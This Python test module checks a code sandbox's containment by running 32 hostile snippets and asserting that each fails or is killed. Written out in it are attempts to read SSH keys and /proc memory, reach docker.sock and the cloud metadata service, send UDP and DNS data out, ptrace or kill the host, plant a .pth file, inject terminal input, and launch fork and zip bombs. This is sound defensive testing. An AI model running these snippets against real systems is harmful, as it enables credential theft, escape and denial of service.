"""Hostile programs, each with what holding it means; `docs/security.md` is written from this.

Contained is: the host is unharmed, the cell ends in bounded time with an answer that says what
happened, and the next cell works. What is returned is what is seen: words without times, so that
the page stays the same from run to run.
"""

import os
import socket
import sys
from collections.abc import Awaitable, Callable
from dataclasses import dataclass, field
from pathlib import Path

import anyio
from anyio import to_thread

from agentkit.errors import ToolError
from agentkit.sandbox import LEVELS, Interpreter, Isolation, Level, Outcome, WorkerLimits

CANARY = "canary-7301"

COLUMNS: tuple[Isolation, ...] = (*LEVELS, "vm", "monty")
"""What a program runs at; the last two hold all of them."""


@dataclass
class World:
    """What is around a session and must not be reached from it."""

    home: Path
    tcp: list[socket.socket]
    udp: socket.socket
    abstract: socket.socket
    local: socket.socket
    local_path: Path
    inherited: int

    @property
    def ports(self) -> list[int]:
        return [int(one.getsockname()[1]) for one in self.tcp]

    def heard(self) -> list[str]:
        """Return where something has arrived."""
        heard: list[str] = []
        for one in (*self.tcp, self.abstract, self.local):
            try:
                accepted, _ = one.accept()
            except BlockingIOError:
                continue
            accepted.close()
            heard.append("a connection")
        try:
            self.udp.recv(100)
            heard.append("a datagram")
        except BlockingIOError:
            pass
        return heard


def open_at(level: Isolation, limits: WorkerLimits | None = None) -> Interpreter:
    """Return a session at a level and no other."""
    return Interpreter(limits, isolation=level, minimum="process")


@dataclass
class Case:
    """One session at a level, and what is around it."""

    level: Isolation
    world: World
    interpreter: Interpreter
    own: list[Interpreter] = field(default_factory=list[Interpreter])

    async def run(self, code: str, seconds: float = 20) -> Outcome:
        return await self.interpreter.run(code, seconds)

    async def works(self) -> None:
        outcome = await self.run("6 * 7")
        assert outcome.value == "42", outcome

    def with_limits(self, limits: WorkerLimits) -> None:
        self.interpreter = open_at(self.level, limits)
        self.own.append(self.interpreter)


Attack = Callable[[Case], Awaitable[str]]


@dataclass(frozen=True)
class Program:
    """One row of the page."""

    number: int
    name: str
    holds_from: Level
    attack: Attack

    def holds_at(self, level: Isolation) -> bool:
        return COLUMNS.index(level) >= COLUMNS.index(self.holds_from)


PROGRAMS: list[Program] = []


def program(number: int, name: str, holds_from: Level = "process") -> Callable[[Attack], Attack]:
    def add(attack: Attack) -> Attack:
        PROGRAMS.append(Program(number, name, holds_from, attack))
        return attack

    return add


def last_line(outcome: Outcome) -> str:
    assert outcome.error, outcome
    return outcome.error.splitlines()[-1].partition(":")[0].rpartition(".")[2]


async def denied(case: Case, *attempts: str) -> str:
    """Run each attempt, all of which must fail with an OSError; return which errors they were."""
    code = "import os, socket\nseen = []\n"
    for attempt in attempts:
        code += (
            f"try:\n    {attempt}\nexcept OSError as error:\n"
            f"    seen.append(type(error).__name__)\nelse:\n    seen.append({attempt!r})\n"
        )
    outcome = await case.run(f"kept = 1\n{code}\n' '.join(sorted(set(seen)))")
    assert outcome.value is not None, outcome
    names = outcome.value.strip("'").split()
    assert all(name.endswith(("Error", "gaierror", "timeout")) for name in names), outcome.value
    assert (await case.run("kept")).value == "1"
    return ", ".join(names)


@program(1, "read a private key in the home folder", "confined")
async def _key(case: Case) -> str:
    return await denied(case, f"open({str(case.world.home / '.ssh' / 'id_rsa')!r}).read()")


@program(2, "look for a secret in the environment")
async def _environment(case: Case) -> str:
    outcome = await case.run(f"import os\n[v for v in os.environ.values() if {CANARY!r} in v]")
    assert outcome.value == "[]"
    return "nothing there"


@program(3, "read the environment and the memory of the host through /proc", "confined")
async def _proc(case: Case) -> str:
    if case.level == "vm":
        return await _own_proc(case)
    pids = (str(os.getpid()), "{os.getppid()}", "self")
    files = [
        f"open(f'/proc/{pid}/{file}', 'rb').read(1)" for pid in pids for file in ("environ", "mem")
    ]
    return await denied(case, *files)


async def _own_proc(case: Case) -> str:
    """Read whatever /proc has: in a kernel of its own that is its own, and knows nothing."""
    outcome = await case.run(
        f"import os\nfound = []\nkey = 'root{case.world.home}/.ssh/id_rsa'\n"
        "for pid in os.listdir('/proc'):\n    for file in ('environ', 'cmdline', 'mem', key):\n"
        "        try: found.append(open(f'/proc/{pid}/{file}', 'rb').read(100_000))\n"
        f"        except OSError: pass\nlen(found) > 2, {CANARY.encode()!r} in b''.join(found)"
    )
    assert outcome.value == "(True, False)", outcome
    await denied(case, "open(f'/proc/{os.getppid()}/mem', 'rb').read(1)")
    return "its own processes, which know nothing"


@program(4, "connect to a service of the host over TCP", "confined")
async def _tcp(case: Case) -> str:
    four, six = case.world.ports[0], case.world.ports[-1]
    seen = await denied(
        case,
        f"socket.create_connection(('127.0.0.1', {four}), 2)",
        f"socket.create_connection(('::1', {six}), 2)",
    )
    assert case.world.heard() == []
    return seen


@program(5, "send data out over UDP and DNS", "confined")
async def _udp(case: Case) -> str:
    port = case.world.udp.getsockname()[1]
    sends = "socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', {})"
    away = (sends.format(("192.0.2.1", 53)), "socket.getaddrinfo('canary.example.com', 80)")
    inside = sends.format(("127.0.0.1", port))
    if case.level == "vm":  # a network of its own, with nobody there
        assert (await case.run(f"import socket\n{inside}")).value == "1"
        seen = f"{await denied(case, *away)}; what it sends to itself stays there"
    else:
        seen = await denied(case, inside, *away)
    assert case.world.heard() == []
    return seen


@program(6, "connect to sockets of the host, abstract and by path", "confined")
async def _unix(case: Case) -> str:
    name, path = case.world.abstract.getsockname(), str(case.world.local_path)
    seen = await denied(
        case,
        f"socket.socket(socket.AF_UNIX).connect({name!r})",
        f"socket.socket(socket.AF_UNIX).connect({path!r})",
        "socket.socket(socket.AF_UNIX).connect('/var/run/docker.sock')",
    )
    assert case.world.heard() == []
    return seen


@program(7, "ask the cloud's metadata service", "confined")
async def _metadata(case: Case) -> str:
    return await denied(case, "socket.create_connection(('169.254.169.254', 80), 2)")


PTRACE = """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
def tried(*args):
    result = libc.syscall(*map(ctypes.c_long, args))
    return result if result >= 0 else -ctypes.get_errno()
"""


def names_of(outcome: Outcome) -> str:
    """Return the names of negative error numbers; none may be a success."""
    assert outcome.value is not None, outcome
    numbers = [int(word) for word in outcome.value.strip("[]").split(",")]
    assert all(number < 0 for number in numbers), outcome.value
    return ", ".join(sorted({os.strerror(-number) for number in numbers}))


@program(8, "attach to the host as a debugger", "confined")
async def _ptrace(case: Case) -> str:
    number = {"x86_64": 101, "aarch64": 117}[os.uname().machine]
    tries = [
        f"tried({number}, {request}, {pid}, 0, 0)"
        for request in (0x4206, 16)
        for pid in (str(os.getpid()), "os.getppid()")
    ]
    return names_of(await case.run(f"{PTRACE}\n[{', '.join(tries)}]"))


@program(9, "kill the host, the janitor and everything else", "confined")
async def _kill(case: Case) -> str:
    everything = "import os\nos.kill(-1, 9)"
    if case.level == "vm":
        seen = await denied(case, f"os.kill({os.getpid()}, 15)")
        await case.run(everything)
        outcome = await case.run("import os, time\nos.kill(os.getppid(), 9)\ntime.sleep(1)")
        assert outcome.killed_by in ("exit", ""), outcome  # another kernel does not allow it
        return f"{seen}; its own container ends, and that is said"
    seen = await denied(case, f"os.kill({os.getpid()}, 15)", "os.kill(os.getppid(), 9)")
    await case.run(everything)
    return seen


@program(10, "write outside of its folder, into packages and into this code", "confined")
async def _write(case: Case) -> str:
    import agentkit.sandbox

    code = Path(agentkit.sandbox.__file__).parent
    packages = Path(sys.prefix) / "lib" / f"python3.{sys.version_info[1]}" / "site-packages"
    targets = [
        case.world.home / "made",
        code / "_worker.py",
        packages / "evil.pth",
        Path("/etc/agentkit-evil"),
        Path("/tmp/agentkit-evil"),
    ]
    before = (code / "_worker.py").read_bytes()
    attempts = [f"open({str(target)!r}, 'ab').write(b'x')" for target in targets]
    if case.level == "vm":
        assert (await case.run(attempts.pop())).value == "1"  # its /tmp is its own
    seen = await denied(case, *attempts)
    assert (code / "_worker.py").read_bytes() == before
    assert not any(target.exists() for target in targets if target.name != "_worker.py")
    assert seen  # which errors depends on who owns what
    return f"denied; nothing is written{', its /tmp is its own' if case.level == 'vm' else ''}"


@program(11, "have the host follow links, pipes and devices out of the folder")
async def _links(case: Case) -> str:
    secret = str(case.world.home / ".ssh" / "id_rsa")
    code = (
        "import os, contextlib\n"
        f"os.symlink({secret!r}, 'plot.png')\nos.symlink({str(Path(secret).parent)!r}, 'dir')\n"
        "os.mkfifo('pipe')\nos.symlink('/dev/zero', 'device')\n"
        f"with contextlib.suppress(OSError): os.link({secret!r}, 'hard')\n"
        "open('good', 'w').write('good')"
    )
    outcome = await case.run(code)
    assert outcome.value == "4", outcome
    assert [file.name for file in outcome.files] == (["good"] if await reads(case, "good") else [])
    refused = 0
    for name in (
        "plot.png",
        "dir/id_rsa",
        "pipe",
        "device",
        "hard",
        "../" * 8 + secret,
        secret,
        ".",
    ):
        try:
            await case.interpreter.read_file(name)
        except ToolError:
            refused += 1
    assert refused == 8
    return "none of them is read"


async def reads(case: Case, name: str) -> bytes:
    """Return a file that the code has made, nothing where the level hands no files out."""
    try:
        return await case.interpreter.read_file(name)
    except ToolError as error:
        if case.level == "vm" and "has no files" in str(error):
            return b""
        raise


@program(12, "use files that the host has open")
async def _inherited(case: Case) -> str:
    code = (
        "import os\nfound = []\nfor fd in range(3, 1024):\n"
        "    try: found.append(os.pread(fd, 100, 0))\n    except OSError: pass\nb''.join(found)"
    )
    outcome = await case.run(code)
    assert outcome.value == "b''"
    return "none is there"


@program(13, "loop for ever")
async def _loop(case: Case) -> str:
    await case.run("kept = 1")
    outcome = await case.run("while True: pass", 0.2)
    assert outcome.timed_out
    assert (await case.run("kept")).value == "1"
    return "interrupted, variables kept"


@program(14, "loop for ever, deaf to interrupts")
async def _deaf(case: Case) -> str:
    for code in (
        "import signal; signal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True: pass",
        "import time\nwhile True:\n    try:\n        time.sleep(60)\n    except BaseException: pass",
    ):
        outcome = await case.run(code, 0.1)
        assert (outcome.timed_out, outcome.killed_by) == (True, "time")
    return "killed, and said so"


@program(15, "compute in C for ever")
async def _in_c(case: Case) -> str:
    for code in ("sum(range(10**11))", "10**10**9", "__import__('re').match('(a+)+$', 'a'*60+'b')"):
        outcome = await case.run(code, 0.1)
        assert outcome.timed_out, outcome
    return "interrupted, or killed and said so"


@program(16, "start processes without end")
async def _forks(case: Case) -> str:
    code = (
        "import os, time\nfor _ in range(300):\n    if os.fork() == 0: time.sleep(600)\n"
        "time.sleep(600)"
    )
    outcome = await case.run(code, 5)
    assert outcome.killed_by == "processes" or "BlockingIOError" in outcome.error, outcome
    await case.run("import os; os._exit(1)")
    return "stopped at the limit"


DAEMON = (
    "import os, time\nr, w = os.pipe()\n"
    "if os.fork() == 0:\n"
    "    try: os.setsid()\n"
    "    except OSError: pass\n"
    "    if os.fork() == 0:\n        os.write(w, str(os.getpid()).encode())\n        time.sleep(600)\n"
    "    os._exit(0)\nint(os.read(r, 20))"
)


@program(17, "leave a daemon behind")
async def _daemon(case: Case) -> str:
    assert (await case.run(DAEMON)).value
    killed = await case.run("import os; os._exit(1)")
    assert killed.killed_by == "exit 1"
    return "ended with the session"


IN_FILES = (
    "import os\nkept = [os.memfd_create('m') for _ in range(200)]\n"
    "for one in kept: os.write(one, bytes(4 << 20))"
)
IN_PIPES = (
    "import fcntl, os\nany(os.fork() == 0 for _ in range(5))\nfor _ in range(120):\n"
    "    _, end = os.pipe()\n    os.set_blocking(end, False)\n"
    "    fcntl.fcntl(end, fcntl.F_SETPIPE_SZ, 1 << 20)\n    os.write(end, bytes(1 << 20))"
)


@program(18, "take all memory, in one process and in eight")
async def _memory(case: Case) -> str:
    outcome = await case.run("bytearray(8 << 30)")
    assert last_line(outcome) == "MemoryError"
    case.with_limits(WorkerLimits(memory_bytes=300 << 20, file_bytes=16 << 20))
    code = (
        "import os, time\nfor _ in range(8):\n    if os.fork() == 0:\n"
        "        hold = bytearray(100 << 20)\n        hold[::4096] = b'x' * len(hold[::4096])\n"
        "        time.sleep(600)\ntime.sleep(600)"
    )
    outcome = await case.run(code)
    assert outcome.killed_by == "memory"
    if case.level == "vm":  # of no process: what lies in its kernel
        for code in (IN_FILES, IN_PIPES):
            outcome = await case.run(f"{code}\nimport time\ntime.sleep(600)")
            assert outcome.killed_by, outcome
    return "MemoryError; together: killed, and said so"


@program(19, "fill the disk with one file, and with very many")
async def _disk(case: Case) -> str:
    limits = WorkerLimits(file_bytes=4 << 20, folder_bytes=16 << 20, folder_files=1000)
    case.with_limits(limits)
    outcome = await case.run("open('big', 'wb').write(bytes(8 << 20))")
    assert last_line(outcome) == "OSError"
    for code in (
        "import time\nfor n in range(100_000): open(f'{n}', 'wb').write(b'x')\ntime.sleep(600)",
        "import time\nfor n in range(20): open(f'{n}', 'wb').write(bytes(2 << 20))\ntime.sleep(600)",
    ):
        outcome = await case.run(code)
        full = "No space left" in outcome.error or "File too large" in outcome.error
        assert outcome.killed_by == "disk" or full, outcome
    return "refused, or killed and said so"


@program(20, "print without end")
async def _flood(case: Case) -> str:
    case.with_limits(WorkerLimits(output_bytes=8 << 20))
    for code in (
        "import os\nwhile True: os.write(1, b'x' * 65536)",
        "print('y' * (100 << 20))",
        "import os\nwhile True: os.write(2, bytes(range(256)) * 256)",
    ):
        outcome = await case.run(code)
        assert "printed more than" in outcome.error, outcome
        assert len(outcome.stdout) + len(outcome.stderr) < 30_000
    return "stopped; head and tail kept"


@program(21, "print control sequences, bidirectional overrides, NUL and half surrogates")
async def _letters(case: Case) -> str:
    code = r"print('a\x1b[31mb\x1b]52;c;aGk=\x07c\u202ed\x00e\x1b]0;title\x1b\\f', '\ud800')"
    outcome = await case.run(code)
    assert outcome.stdout.startswith("abcdef")
    assert not set(outcome.stdout) & {"\x1b", "\x00", "\u202e", "\x07"}
    outcome.stdout.encode("utf-8")
    return "stripped, valid UTF-8"


@program(22, "unpack a bomb, and leave one as a picture")
async def _bombs(case: Case) -> str:
    case.with_limits(WorkerLimits(memory_bytes=160 << 20))
    outcome = await case.run(
        "import zlib\nc = zlib.compressobj(9, zlib.DEFLATED, -15)\n"  # one piece, repeated
        "piece = c.compress(bytes(1 << 20)) + c.flush(zlib.Z_FULL_FLUSH)\n"
        "bomb = piece * 300 + c.flush()\nopen('bomb.png', 'wb').write(bomb)\n"
        "zlib.decompress(bomb, -15)"
    )
    assert last_line(outcome) == "MemoryError", outcome
    assert len(await reads(case, "bomb.png")) < 1 << 20
    return "MemoryError; the host decodes nothing"


@program(23, "end the interpreter under the cell")
async def _ends(case: Case) -> str:
    for code, expected in (
        ("import os; os._exit(0)", "exit 0"),
        ("import ctypes; ctypes.string_at(0)", "SIGSEGV"),
    ):
        outcome = await case.run(code)
        assert (outcome.killed_by, outcome.restarted) == (expected, True), outcome
    assert not (await case.run("import sys; sys.exit()")).killed_by
    assert "SystemExit: 3" in (await case.run("raise SystemExit(3)")).error
    return "said so; a new one works"


@program(24, "recurse without end, and answer with JSON that is very deep")
async def _deep(case: Case) -> str:
    outcome = await case.run("import sys\nsys.setrecursionlimit(10**9)\ndef f(): f()\nf()", 0.3)
    assert outcome.killed_by or outcome.error, outcome
    outcome = await case.run(
        "import os, struct, time\ndata = struct.pack('>I', 200_000) + b'[' * 200_000\n"
        "while data: data = data[os.write(200, data):]\ntime.sleep(600)"
    )
    assert outcome.killed_by == "protocol"
    return "a new one works"


@program(25, "hold up the end with threads, atexit and __del__")
async def _ends_late(case: Case) -> str:
    outcome = await case.run(
        "import atexit, threading, time\natexit.register(time.sleep, 600)\n"
        "threading.Thread(target=time.sleep, args=(600,)).start()\n"
        "class D:\n    def __del__(self): time.sleep(600)\nkept = D()"
    )
    assert outcome.error == ""
    with anyio.fail_after(20):
        await case.interpreter.aclose()
    case.with_limits(WorkerLimits())
    return "closed without them"


@program(26, "forge frames, and answer from a fork")
async def _forge(case: Case) -> str:
    for data in (r"b'\xff\xff\xff\xff'", "struct.pack('>I', 7) + b'nothing'", "b'\\0\\0\\0\\2{}'"):
        outcome = await case.run(f"import os, struct, time\nos.write(200, {data})\ntime.sleep(600)")
        assert outcome.killed_by == "protocol", outcome
    outcome = await case.run("import os\npid = os.fork()\n'child' if pid == 0 else 'parent'")
    assert outcome.value == "'parent'"
    return "noticed; a new one works"


@program(27, "give values whose repr loops, floods or raises")
async def _reprs(case: Case) -> str:
    cell = "class R:\n    def __repr__(self):\n        {}\nR()"
    assert (await case.run(cell.format("while True: pass"), 0.2)).timed_out
    flood = await case.run(cell.format("return 'x' * (10 << 20)"))
    assert flood.value is not None
    assert len(flood.value) < 10_000
    assert "ZeroDivisionError" in (await case.run(cell.format("1 / 0"))).error
    return "bounded like a cell"


@program(28, "ask the kernel for more rights", "confined")
async def _rights(case: Case) -> str:
    x86 = {"unshare": 272, "mount": 165, "chroot": 161, "bpf": 321, "perf": 298, "keyctl": 250}
    arm = {"unshare": 97, "mount": 40, "chroot": 51, "bpf": 280, "perf": 241, "keyctl": 219}
    x86 |= {"io_uring": 425, "userfaultfd": 323}
    arm |= {"io_uring": 425, "userfaultfd": 282}
    numbers = {"x86_64": x86, "aarch64": arm}[os.uname().machine]
    if case.level == "vm":
        return await _own_rights(case, numbers.pop("unshare"))
    tries = [
        f"tried({number}, {0x10000000 if name == 'unshare' else 0}, 0, 0, 0, 0)"
        for name, number in numbers.items()
    ]
    return names_of(await case.run(f"{PTRACE}\n[{', '.join(tries)}]"))


async def _own_rights(case: Case, unshare: int) -> str:
    """Become root of a namespace, which a kernel of its own may allow: nothing comes of it."""
    key = case.world.home / ".ssh" / "id_rsa"
    outcome = await case.run(
        f"{PTRACE}\ntried({unshare}, 0x10000000 | 0x20000)\n"
        "libc.mount(b'none', b'/tmp', b'tmpfs', 0, None)\nlibc.chroot(b'/proc/1/root')\n"
        f"os.path.exists({str(key)!r}), os.path.exists({str(case.world.local_path)!r})"
    )
    assert outcome.value == "(False, False)", outcome
    return "rights over its own kernel alone"


@program(29, "type into the host's terminal", "confined")
async def _tty(case: Case) -> str:
    return await denied(
        case,
        "open('/dev/tty', 'w')",
        "__import__('fcntl').ioctl(0, 0x5412, b'x')",
        "open('/dev/console', 'w')",
    )


def shared_memory() -> set[str]:
    """Return the names of what lies in the host's shared memory."""
    return {path.name for path in Path("/dev/shm").iterdir()}


@program(30, "use up files, threads and shared memory")
async def _exhaust(case: Case) -> str:
    before = await to_thread.run_sync(shared_memory)
    outcome = await case.run("kept = []\nwhile True: kept.append(open('/dev/null'))")
    assert last_line(outcome) == "OSError"
    await case.run("kept.clear()")
    outcome = await case.run(
        "import threading, time\nfor _ in range(10_000): threading.Thread(target=time.sleep, "
        "args=(600,), daemon=True).start()",
        10,
    )
    assert outcome.killed_by or outcome.error or outcome.timed_out, outcome
    await case.run("import os; os._exit(1)")
    if case.level != "process":
        await case.run(
            "from multiprocessing import shared_memory\n"
            "left = shared_memory.SharedMemory(create=True, size=1000)\n"
        )
        await case.run("import os; os._exit(1)")
        assert await to_thread.run_sync(shared_memory) <= before
    return "an error at the limit"


@program(31, "replace what the worker stands on")
async def _patch(case: Case) -> str:
    for code in (
        "import sys; sys.stdout = sys.stderr = None",
        "import builtins; builtins.compile = builtins.exec = builtins.repr = None",
        "import sys; sys.modules.clear()",
        "import os; os.close(1); os.close(2); os.close(0)",
        "import json; json.dumps = None",
    ):
        await case.run(code)
        outcome = await case.run("print('still here')")
        if outcome.killed_by:
            outcome = await case.run("print('still here')")
        assert outcome.stdout == "still here\n", (code, outcome)
    return "answers, or is replaced"


BUSY = (
    "import threading\nfor _ in range(8):\n"
    "    threading.Thread(target=lambda: sum(range(10**10)), daemon=True).start()\nwhile True: pass"
)


@program(32, "take the processor from the host")
async def _processor(case: Case) -> str:
    return await stays_awake(case, BUSY)


async def stays_awake(case: Case, code: str) -> str:
    """Run a cell that takes all it can get, beside a loop that must go on."""
    ticks = 0

    async def tick() -> None:
        nonlocal ticks
        while True:
            await anyio.sleep(0.01)
            ticks += 1

    outcomes: list[Outcome] = []
    async with anyio.create_task_group() as tasks:
        tasks.start_soon(tick)
        outcomes.append(await case.run(code, 0.5))
        tasks.cancel_scope.cancel()
    assert outcomes[0].timed_out
    assert ticks > 5
    return "the host's loop goes on; the cell is ended"
